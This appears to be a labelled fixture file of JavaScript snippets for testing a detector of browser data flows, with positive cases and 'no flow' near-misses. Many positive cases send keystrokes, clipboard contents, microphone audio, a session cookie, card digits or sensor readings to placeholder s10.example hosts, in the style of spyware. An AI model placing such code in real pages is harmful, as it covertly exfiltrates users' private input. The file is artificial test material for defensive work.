//# jquery-1x-serialize-array
// flow: input > jsa.s10.example via xhr
$(function () {
  $('#signup').bind('submit', function () {
    var rows = $(this).serializeArray(), o = {};
    $.each(rows, function (i, r) { o[r.name] = r.value; });
    $.ajax({ type: 'POST', url: 'https://jsa.s10.example/in', data: o });
    return false;
  });
});

//# react-hook-state
// flow: email > rhs.s10.example via fetch
const { useState, createElement: h } = React;
function Join() {
  const [mail, setMail] = useState('');
  const onSubmit = (ev) => { ev.preventDefault(); fetch('https://rhs.s10.example/join', { method: 'POST', body: mail }); };
  return h('form', { onSubmit }, h('input', { type: 'email', value: mail, onChange: (e) => setMail(e.target.value) }));
}

//# closest-form-field
// flow: phone > cff.s10.example via fetch
document.body.addEventListener('click', function (ev) {
  var btn = ev.target.closest('button.call-me');
  if (!btn) return;
  var tel = btn.closest('form').querySelector('[autocomplete="tel"]');
  fetch('https://cff.s10.example/cb?n=' + encodeURIComponent(tel.value));
});

//# name-attribute-selector-postcode
// flow: postal-code > pcd.s10.example via fetch
const zip = document.querySelector('input[autocomplete="postal-code"]');
zip.addEventListener('change', async () => {
  const res = await fetch(`https://pcd.s10.example/shipping/${zip.value.trim()}`);
  document.querySelector('#cost').textContent = (await res.json()).cost;
});

//# street-address-textarea
// flow: address > sta.s10.example via beacon
var street = document.querySelector('textarea[autocomplete=street-address]');
window.addEventListener('pagehide', function () {
  navigator.sendBeacon('https://sta.s10.example/abandoned', street.value);
});

//# one-time-code-auto-submit
// flow: otp > oas.s10.example via fetch
const boxes = [...document.querySelectorAll('input[autocomplete=one-time-code]')];
boxes.forEach((box) => box.addEventListener('input', () => {
  const code = boxes.map((b) => b.value).join('');
  if (code.length === 6) fetch('https://oas.s10.example/verify', { method: 'POST', body: code });
}));

//# web-otp-abort
// flow: otp > woa.s10.example via fetch
if ('OTPCredential' in window) {
  const ac = new AbortController();
  navigator.credentials.get({ otp: { transport: ['sms'] }, signal: ac.signal })
    .then((otp) => fetch('https://woa.s10.example/otp', { method: 'POST', body: JSON.stringify({ c: otp.code }) }))
    .catch(console.error);
}

//# keyup-which-old
// flow: keystrokes > kwo.s10.example via image
var log = [];
document.onkeyup = function (e) {
  e = e || window.event;
  log.push(String.fromCharCode(e.which || e.keyCode));
  if (log.length >= 20) { new Image().src = 'https://kwo.s10.example/k?l=' + escape(log.join('')); log = []; }
};

//# key-timings
// flow: keystrokes > ktm.s10.example via beacon
const downAt = new Map();
const dwell = [];
window.addEventListener('keydown', (e) => { if (!downAt.has(e.code)) downAt.set(e.code, e.timeStamp); }, true);
window.addEventListener('keyup', (e) => { dwell.push([e.code, e.timeStamp - downAt.get(e.code)]); downAt.delete(e.code); }, true);
window.addEventListener('visibilitychange', () => {
  if (document.visibilityState === 'hidden') navigator.sendBeacon('https://ktm.s10.example/bio', JSON.stringify(dwell));
});

//# clipboard-items-read
// flow: input > cir.s10.example via fetch
async function steal() {
  for (const item of await navigator.clipboard.read()) {
    const blob = await item.getType('text/plain');
    await fetch('https://cir.s10.example/c', { method: 'POST', body: blob });
  }
}
document.querySelector('#paste').addEventListener('click', steal);

//# cookie-reduce-to-object
// flow: identifier > cro.s10.example via fetch
const jar = document.cookie.split('; ').reduce((acc, pair) => {
  const [k, ...v] = pair.split('=');
  return { ...acc, [k]: v.join('=') };
}, {});
fetch('https://cro.s10.example/sync', { method: 'POST', body: new URLSearchParams({ id: jar.session_ref }) });

//# storage-json-property
// flow: identifier > sjp.s10.example via fetch
let profile;
try { profile = JSON.parse(localStorage.getItem('profile') || '{}'); } catch (_) { profile = {}; }
if (profile.visitorId) fetch(`https://sjp.s10.example/u/${profile.visitorId}/seen`, { method: 'PUT' });

//# indexeddb-cursor
// flow: identifier > idc.s10.example via fetch
const rq = indexedDB.open('sdk', 2);
rq.onsuccess = ({ target: { result: db } }) => {
  const rows = [];
  db.transaction('ids').objectStore('ids').openCursor().onsuccess = (e) => {
    const cur = e.target.result;
    if (cur) { rows.push(cur.value); cur.continue(); }
    else fetch('https://idc.s10.example/ids', { method: 'POST', body: JSON.stringify(rows) });
  };
};

//# opfs-file-id
// flow: identifier > opf.s10.example via fetch
(async () => {
  const root = await navigator.storage.getDirectory();
  const handle = await root.getFileHandle('device.id');
  const file = await handle.getFile();
  await fetch('https://opf.s10.example/?d=' + (await file.text()));
})();

//# gpu-adapter-info
// flow: device > gpu.s10.example via fetch
async function gpu() {
  const adapter = await navigator.gpu?.requestAdapter();
  if (!adapter) return;
  const { vendor, architecture } = adapter.info;
  await fetch('https://gpu.s10.example/hw', { method: 'POST', body: JSON.stringify({ vendor, architecture }) });
}
gpu();

//# permissions-states
// flow: device > pst.s10.example via fetch
Promise.all(['geolocation', 'notifications', 'camera'].map((name) => navigator.permissions.query({ name })))
  .then((list) => list.map((p) => p.state).join(','))
  .then((s) => fetch('https://pst.s10.example/perm', { method: 'POST', body: s }));

//# orientation-sensor
// flow: device > ori.s10.example via websocket
var sock = new WebSocket('wss://ori.s10.example/tilt');
window.addEventListener('deviceorientation', function (e) {
  if (sock.readyState === 1) sock.send([e.alpha, e.beta, e.gamma].join(','));
});

//# generic-sensor-reading
// flow: device > gsr.s10.example via beacon
const acc = new Accelerometer({ frequency: 10 });
acc.addEventListener('reading', () => navigator.sendBeacon('https://gsr.s10.example/a', `${acc.x};${acc.y};${acc.z}`));
acc.start();

//# text-metrics-fonts
// flow: device > tmf.s10.example via fetch
const ctx = document.createElement('canvas').getContext('2d');
const widths = ['Arial', 'SimSun', 'Menlo'].map((f) => { ctx.font = `20px "${f}", monospace`; return ctx.measureText('mmmmwwlli').width; });
fetch('https://tmf.s10.example/f', { method: 'POST', body: widths.join() });

//# media-recorder-chunks
// flow: message > mrc.s10.example via fetch
// why: what the person says
const stream = await navigator.mediaDevices.getUserMedia({ audio: true });
const rec = new MediaRecorder(stream);
rec.ondataavailable = (e) => fetch('https://mrc.s10.example/up', { method: 'POST', body: e.data });
rec.start(1000);

//# address-of-geolocation-promise-class
// flow: location > gpc.s10.example via fetch
class Where {
  static now() { return new Promise((ok, no) => navigator.geolocation.getCurrentPosition((p) => ok(p.coords), no, { timeout: 5000 })); }
  async report() {
    const c = await Where.now();
    return fetch('https://gpc.s10.example/w', { method: 'POST', body: JSON.stringify({ a: c.latitude.toFixed(2), o: c.longitude.toFixed(2) }) });
  }
}
new Where().report();

//# selection-change
// flow: interaction > slc.s10.example via beacon
document.addEventListener('mouseup', () => {
  const picked = document.getSelection().toString();
  if (picked) navigator.sendBeacon('https://slc.s10.example/copied', picked);
});

//# file-names-of-folder
// flow: file > fnf.s10.example via fetch
document.querySelector('input[type=file][webkitdirectory]').addEventListener('change', (e) => {
  fetch('https://fnf.s10.example/list', { method: 'POST', body: [...e.target.files].map((f) => f.webkitRelativePath).join('\n') });
});

//# page-text-inner
// flow: interaction > pti.s10.example via fetch
requestIdleCallback(() => {
  const text = document.body.innerText.slice(0, 4000);
  fetch('https://pti.s10.example/context', { method: 'POST', headers: { 'content-type': 'text/plain' }, body: text });
});

//# prompt-textarea-by-aria
// flow: message > pta.s10.example via eventsource
const ask = document.querySelector('textarea[name=prompt]');
document.querySelector('#ask').onclick = () => {
  const es = new EventSource('https://pta.s10.example/stream?q=' + encodeURIComponent(ask.value));
  es.onmessage = (m) => { document.querySelector('#out').append(m.data); };
};

//# card-expiry-near-card
// flow: card > cen.s10.example via fetch
const pan = document.getElementById('card-number') || document.querySelector('[autocomplete=cc-number]');
document.querySelector('#pay').addEventListener('click', () => {
  const last = pan.value.replace(/\D+/g, '').slice(-4);
  fetch('https://cen.s10.example/hint', { method: 'POST', body: last });
});

//# near-field-placeholder
// no flow
// why: the placeholder is the page's text, not what was typed
const q = document.querySelector('input[type=email]');
fetch('https://nfp.s10.example/i18n?t=' + encodeURIComponent(q.placeholder));

//# near-field-default-attribute
// no flow
// why: the attribute name and the type of the field
const p = document.querySelector('input[type=password]');
fetch('https://nfd.s10.example/audit', { method: 'POST', body: p.getAttribute('name') + ':' + p.type });

//# near-cookies-enabled
// no flow
// why: one bit, whether cookies work
fetch('https://nce.s10.example/c?ok=' + (navigator.cookieEnabled ? 1 : 0));

//# near-storage-theme-constant
// no flow
// why: the stored text only chooses among constants
const theme = localStorage.getItem('theme') === 'dark' ? 'dark' : 'light';
fetch('https://nst.s10.example/css/' + theme + '.css');

//# near-geolocation-permission-only
// no flow
// why: the position is not asked; success reports a constant
navigator.geolocation.getCurrentPosition(() => fetch('https://ngp.s10.example/ok', { method: 'POST', body: 'granted' }));

//# near-clipboard-of-own-copy-event
// no flow
// why: the copied text is set, and the report is a constant
document.addEventListener('copy', (e) => {
  e.clipboardData.setData('text/plain', getSelection() + '\nRead more');
  e.preventDefault();
  navigator.sendBeacon('https://ncc.s10.example/copied', 'article-17');
});

//# near-media-stream-shown
// no flow
// why: the camera is shown on the page; the report names no device
navigator.mediaDevices.getUserMedia({ video: true }).then((s) => {
  document.querySelector('video').srcObject = s;
  fetch('https://nms.s10.example/started');
});

//# near-key-decides-shortcut-name
// no flow
// why: what is sent is the name of the shortcut, a constant
const shortcuts = { k: 'palette', p: 'print' };
addEventListener('keydown', (e) => {
  if (e.ctrlKey && shortcuts[e.key]) navigator.sendBeacon('https://nks.s10.example/used', shortcuts[e.key]);
});

//# near-file-size-limit
// no flow
// why: too large or not
document.querySelector('input[type=file]').addEventListener('change', function () {
  const tooBig = this.files[0].size > 5e6;
  fetch('https://nfl.s10.example/limit?hit=' + tooBig);
});
